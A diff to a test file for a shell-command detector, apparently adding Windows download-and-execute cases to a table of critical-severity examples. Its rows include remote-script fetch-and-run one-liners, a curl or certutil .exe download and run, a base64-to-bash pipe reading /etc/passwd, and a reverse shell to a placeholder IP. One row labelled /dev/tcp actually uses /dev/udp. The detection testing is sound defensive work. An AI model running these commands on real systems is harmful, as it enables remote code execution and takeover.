@@ -51,6 +51,8 @@ describe('detectShell()', () => {
       ['wget piped to sudo bash', 'wget -qO- http://203.0.113.5/i.sh | sudo -E bash -', 'critical', 'download and execute'],
       ['bash reading a process substitution', 'bash <(curl -fsSL https://example.dev/x.sh)', 'critical', 'download and execute'],
       ['sh -c running fetched code', 'sh -c "$(wget -O- https://example.dev/x.sh)"', 'critical', 'download and execute'],
+      ['a Windows program downloaded to %TEMP% and run', 'curl http://203.0.113.9/x.exe -o %TEMP%\\x.exe && %TEMP%\\x.exe', 'critical', 'download and execute'],
+      ['certutil downloading a program that is then run', 'certutil -urlcache -split -f http://203.0.113.9/x.exe x.exe & x.exe', 'critical', 'download and execute'],
       ['a download saved then run', 'curl -o /tmp/u.sh https://example.dev/u.sh && bash /tmp/u.sh', 'critical', 'download and execute'],
       ['a base64 blob decoded into a shell', 'echo Y2F0IC9ldGMvcGFzc3dk | base64 --decode | bash', 'critical', 'decode and execute'],
       ['a /dev/tcp reverse shell', 'sh -i >& /dev/udp/198.51.100.3/53 0>&1', 'critical', 'reverse shell'],
